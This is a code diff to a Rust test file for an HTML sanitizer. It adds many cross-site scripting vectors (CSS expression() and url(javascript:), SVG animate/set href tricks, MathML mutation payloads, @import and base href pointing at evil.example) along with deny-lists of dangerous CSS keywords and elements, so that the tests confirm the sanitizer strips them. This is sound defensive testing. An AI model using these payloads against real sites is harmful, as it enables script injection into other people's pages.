@@ -3,7 +3,8 @@
 //!
 //! The output of every vector is parsed back with `scraper` (html5ever, the
 //! parser a browser-like reader would use) and must satisfy [`violations`]:
-//! only allow-listed elements, no `on*` or `style` attribute, every URL-bearing
+//! only allow-listed elements, no `on*`, `id`, `name` or `class` attribute,
+//! `style` only without anything that fetches, binds or positions, every URL-bearing
 //! attribute absent or `http(s)`/`mailto` after entity decoding and removal
 //! of white space and control characters, no `<base>`, `<meta>`, `<link>`,
 //! `<script>`, `<style>`, and frames only from allow-listed players over https.
@@ -14,7 +15,9 @@
 //! sanitizer that simply returned nothing would fail them.
 
 use scraper::{Html, Node};
-use tributary_normalize::sanitize::{sanitize_html, ALLOWED_TAGS, IFRAME_HOSTS};
+use tributary_normalize::sanitize::{
+    sanitize_html, HTML_ELEMENTS, IFRAME_HOSTS, MATHML_ELEMENTS, SVG_ELEMENTS,
+};
 use url::Url;
 
 fn base() -> Url {
@@ -36,6 +39,9 @@ const URL_ATTRIBUTES: &[&str] = &[
     "dynsrc",
     "lowsrc",
     "longdesc",
+    "usemap",
+    "datasrc",
+    "altimg",
     "codebase",
     "manifest",
     "icon",
@@ -57,6 +63,53 @@ fn allowed_url(url: &str) -> bool {
     url.starts_with("http://") || url.starts_with("https://") || url.starts_with("mailto:")
 }
 
+/// Elements that must never be written, whatever the allow-lists say.
+const FORBIDDEN_ELEMENTS: &[&str] = &[
+    "script",
+    "style",
+    "base",
+    "meta",
+    "link",
+    "object",
+    "embed",
+    "applet",
+    "form",
+    "input",
+    "button",
+    "select",
+    "textarea",
+    "frame",
+    "frameset",
+    "foreignObject",
+    "template",
+    "dialog",
+];
+
+/// A `style` value that cannot fetch, bind or run anything, nor escape the
+/// content's box: no `url(`, `expression(`, escapes, comments, at-rules,
+/// bindings or positioning.
+fn safe_style(style: &str) -> bool {
+    let lower = as_browser_reads(style);
+    ![
+        "url(",
+        "expression",
+        "\\",
+        "/*",
+        "@",
+        "behavior",
+        "binding",
+        "javascript",
+        "position",
+        "z-index",
+        "content",
+        "import",
+        "<",
+        "&",
+    ]
+    .iter()
+    .any(|bad| lower.contains(bad))
+}
+
 /// Everything unsafe in sanitized HTML, read back with an HTML parser.
 fn violations(sanitized: &str) -> Vec<String> {
     let mut found = Vec::new();
@@ -74,7 +127,11 @@ fn violations(sanitized: &str) -> Vec<String> {
             continue;
         };
         let name = el.name();
-        if !ALLOWED_TAGS.contains(&name) {
+        let allowed = name == "iframe"
+            || HTML_ELEMENTS.contains(&name)
+            || SVG_ELEMENTS.iter().any(|(_, svg)| *svg == name)
+            || MATHML_ELEMENTS.contains(&name);
+        if !allowed || FORBIDDEN_ELEMENTS.contains(&name) {
             found.push(format!("element <{name}> outside the allow-list"));
         }
         if name == "iframe" {
@@ -94,8 +151,17 @@ fn violations(sanitized: &str) -> Vec<String> {
             if attr.starts_with("on") {
                 found.push(format!("event handler {attr} on <{name}>"));
             }
-            if matches!(attr.as_str(), "style" | "srcdoc" | "formaction" | "action") {
+            if matches!(
+                attr.as_str(),
+                "srcdoc" | "formaction" | "id" | "name" | "class" | "xml:base"
+            ) {
                 found.push(format!("attribute {attr} on <{name}>"));
+            }
+            if attr == "style" && !safe_style(value) {
+                found.push(format!("style {value:?} on <{name}>"));
+            }
+            if attr == "attributename" && as_browser_reads(value).contains("href") {
+                found.push(format!("animation of {value:?} on <{name}>"));
             }
             if URL_ATTRIBUTES.contains(&attr.as_str()) && !allowed_url(value) {
                 found.push(format!("URL {value:?} in {name}@{attr}"));
@@ -165,7 +231,7 @@ const VECTORS: &[(&str, &str)] = &[
     ),
     (
         r#"<map name="m"><area href="javascript:alert(1)" shape="rect"></map><img src="x.png" usemap=m>"#,
-        r#"<img src="https://example.com/blog/x.png">"#,
+        r#"<img src="https://example.com/blog/x.png""#,
     ),
     (
         r#"<a href="https://ok.example/"><img src="x" onerror="alert(1)"></a>"#,
@@ -282,6 +348,79 @@ const VECTORS: &[(&str, &str)] = &[
         r#"<span style="-moz-binding:url('http://evil.example/xss.xml#xss')">s</span>"#,
         "<span>s</span>",
     ),
+    // --- style, now kept after cleaning: only the harmless declarations ---
+    (
+        r#"<p style="color: red; position: fixed; top: 0; z-index: 9999">p</p>"#,
+        r#"<p style="color: red;">p</p>"#,
+    ),
+    (
+        r#"<p style="color: red; background: url(javascript:alert(1))">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="background: #fff url('javascript:alert(1)') no-repeat">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="color: expression(alert(1))">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="color: exp&#x72;ession(alert(1))">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="x: \65 xpression(alert(1))">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="color: red\;background:url(x)">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="behavior&#58; url(x.htc); color: red">p</p>"#,
+        r#"<p style="color: red;">p</p>"#,
+    ),
+    (
+        r#"<p style="-webkit-binding: x; -moz-binding: y; color: red">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="list-style: url(x.png); background-image: image-set('javascript:x' 1x)">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="content: 'x'; color: blue">p</p>"#,
+        r#"<p style="color: blue;">p</p>"#,
+    ),
+    (
+        r#"<p style="font-family: 'a</style><script>alert(1)</script>'">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="color:red;/**/background:url(javascript:alert(1))">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="@import 'https://evil.example/x.css'; color: red">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="margin: 0 expression(alert(1))">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="border: 1px solid javascript">p</p>"#,
+        "<p>p</p>",
+    ),
+    (
+        r#"<p style="width: 100%; height: 100%; display: block">p</p>"#,
+        r#"<p style="width: 100%; height: 100%; display: block;">p</p>"#,
+    ),
+    (
+        r#"<svg><circle style="fill: red; filter: url(#x); stroke: blue" r="1"/></svg>"#,
+        "<circle",
+    ),
     // --- navigation and document-level elements ---
     (r#"<BASE HREF="javascript:alert('XSS');//">after"#, "after"),
     (r#"<base href="https://evil.example/">after"#, "after"),
@@ -347,6 +486,136 @@ const VECTORS: &[(&str, &str)] = &[
         "",
     ),
     (r#"<isindex action="javascript:alert(1)" type="image">"#, ""),
+    // --- SVG and MathML, now kept: only their allow-lists, URLs checked ---
+    (
+        r#"<svg><set attributeName="xlink:href" to="javascript:alert(1)"/><a><text>t</text></a></svg>"#,
+        "<text>t</text>",
+    ),
+    (
+        r#"<svg><a><animate attributeName="HREF" values="javascript:alert(1)"/><text>t</text></a></svg>"#,
+        "<animate",
+    ),
+    (
+        r#"<svg><a><animate attributeName=" xlink:href " from="javascript:alert(1)" to="x"/></a></svg>"#,
+        "",
+    ),
+    (
+        r#"<svg><animate attributeName="fill" from="red" to="blue" dur="1s"/></svg>"#,
+        r#"attributeName="fill""#,
+    ),
+    (
+        r#"<svg><animate attributeName="onload" to="alert(1)"/><animate attributeName="style" to="background:url(javascript:alert(1))"/></svg>"#,
+        "",
+    ),
+    (
+        r#"<svg><a xlink:href="&#106;avascript:alert(1)"><rect width="10" height="10"/></a></svg>"#,
+        r#"<rect height="10" width="10" />"#,
+    ),
+    (
+        r#"<svg><a xlink:href="https://ok.example/"><text>ok</text></a></svg>"#,
+        r#"xlink:href="https://ok.example/""#,
+    ),
+    (
+        r#"<svg><use xlink:href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>"#,
+        "<use",
+    ),
+    (
+        r#"<svg><script xlink:href="data:,alert(1)" /><circle r="1"/></svg>"#,
+        "<circle",
+    ),
+    (
+        r#"<svg><style>*{background:url(javascript:alert(1))}</style><circle r="1"/></svg>"#,
+        "<circle",
+    ),
+    (
+        r#"<svg><title><img src=x onerror=alert(1)></title></svg>"#,
+        "<title>",
+    ),
+    (
+        r#"<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></desc></svg>"#,
+        "",
+    ),
+    (
+        r#"<svg xmlns:xlink="javascript:alert(1)" xml:base="javascript:alert(1)//"><a xlink:href="x"><text>t</text></a></svg>"#,
+        "",
+    ),
+    (
+        r#"<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe><p onclick=x>t</p></foreignObject></svg>"#,
+        "<p>t</p>",
+    ),
+    (
+        r#"<svg><image href="javascript:alert(1)" /><feImage xlink:href="javascript:alert(1)"/></svg>"#,
+        "",
+    ),
+    (
+        r#"<svg onload=alert(1) onerror=alert(2)><g onclick=alert(3)><circle r=1 /></g></svg>"#,
+        "<g><circle",
+    ),
+    (
+        r#"<svg><a href="javascript:alert(1)"><text>svg2 href</text></a></svg>"#,
+        "svg2 href",
+    ),
+    (
+        r#"<math><mi xlink:href="data:x,<script>alert(4)</script>">x</mi></math>"#,
+        "<mi>x</mi>",
+    ),
+    (
+        r#"<math><a xlink:href="javascript:alert(1)">a</a><mtext href="vbscript:x">t</mtext></math>"#,
+        "<mtext>t</mtext>",
+    ),
+    (
+        r#"<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">"#,
+        "",
+    ),
+    (
+        r#"<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>"#,
+        "<annotation-xml",
+    ),
+    // --- newly allowed attributes: every URL checked, handlers never ---
+    (
+        r#"<table background="javascript:alert(1)"><tr><td background="data:image/svg+xml,x" bgcolor="red">c</td></tr></table>"#,
+        r#"<td bgcolor="red">"#,
+    ),
+    (
+        r#"<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" longdesc="javascript:alert(1)" src="x.png">"#,
+        r#"<img src="https://example.com/blog/x.png">"#,
+    ),
+    (
+        r#"<a href="https://ok.example/" ping="javascript:alert(1)" target="_blank" rel="opener">ok</a>"#,
+        r#"<a href="https://ok.example/" rel="noopener noreferrer" target="_blank">ok</a>"#,
+    ),
+    (
+        r#"<span action="javascript:alert(1)" data="javascript:alert(1)" src="javascript:alert(1)" datasrc="javascript:x" icon="javascript:x">s</span>"#,
+        "<span>s</span>",
+    ),
+    (
+        r#"<img usemap="javascript:alert(1)" src="x.png"><q cite="javascript:alert(1)">q</q>"#,
+        "<q>q</q>",
+    ),
+    (
+        r#"<span id="location" name="cookie" class="admin-banner" style="color:red">s</span>"#,
+        r#"<span style="color: red;">s</span>"#,
+    ),
+    (
+        r#"<p xml:base="javascript:alert(1)//" xml:lang="en"><a href="x">x</a></p>"#,
+        r#"href="https://example.com/blog/x""#,
+    ),
+    (
+        r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>"#,
+        "&lt;/noscript&gt;",
+    ),
+    (
+        r#"<video src="javascript:alert(1)" poster="data:image/png,x" autoplay onplay=alert(1)></video>"#,
+        r#"<video controls="controls"></video>"#,
+    ),
+    (
+        r#"<dialog open><p>over the page</p></dialog>"#,
+        "<p>over the page</p>",
+    ),
+    (
+        r#"<select><option>one</option></select><keygen><datalist><option>x</datalist>"#,
+        "one",
+    ),
     // --- SVG and MathML ---
     (
         r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>"#,
@@ -406,7 +675,7 @@ const VECTORS: &[(&str, &str)] = &[
     ("<a href=\"javascript:alert(1)\"><a href=\"https://ok.example/\">ok</a></a>", "href=\"https://ok.example/\""),
     ("<div><a href=\"javascript:alert(1)\"/></div>", ""),
     ("<IMG SRC=\"javascript:alert('XSS')\"", ""),
-    ("<BR SIZE=\"&{alert('XSS')}\">", "<br>"),
+    ("<BR SIZE=\"&{alert('XSS')}\">", "<br"),
     ("<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">d</DIV>", "<div>d</div>"),
     ("<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"></HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-", ""),
 ];
@@ -457,7 +726,10 @@ fn checker_flags_raw_vectors() {
         r#"<a href="jav&#x09;ascript:alert(1)">x</a>"#,
         r#"<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>"#,
         "<img src=x onerror=alert(1)>",
-        r#"<div style="x">d</div>"#,
+        r#"<div style="background:url(javascript:alert(1))">d</div>"#,
+        r#"<p style="position:fixed;top:0">d</p>"#,
+        r#"<svg><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
+        r#"<span id="x" class="y">d</span>"#,
         r#"<svg><a xlink:href="javascript:alert(1)">t</a></svg>"#,
         r#"<img srcset="ok.png 1x, javascript:alert(1) 2x">"#,
         r#"<base href="https://evil.example/">"#,
